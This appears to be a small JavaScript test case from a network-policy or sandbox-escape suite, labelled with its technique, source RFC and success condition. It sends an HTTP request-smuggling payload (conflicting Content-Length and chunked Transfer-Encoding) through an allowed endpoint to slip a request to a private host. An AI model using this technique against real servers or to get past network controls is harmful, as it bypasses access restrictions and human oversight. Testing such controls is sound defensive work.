// technique: hides a request behind a body whose end two servers see in two places
// source: RFC 9112, section 6.3; CL.TE and TE.CL
// success: the permitted server got the token
// control: outside
// policy: network
// beside: origins
import { chunked, get, PRIVATE, PUBLIC, post, say } from './wire.mjs';

await say(process.env.ALLOWED_HTTP, [post(PUBLIC, `Content-Length: 4\r\n${chunked}`, `0\r\n\r\n${get(PRIVATE)}`)]);
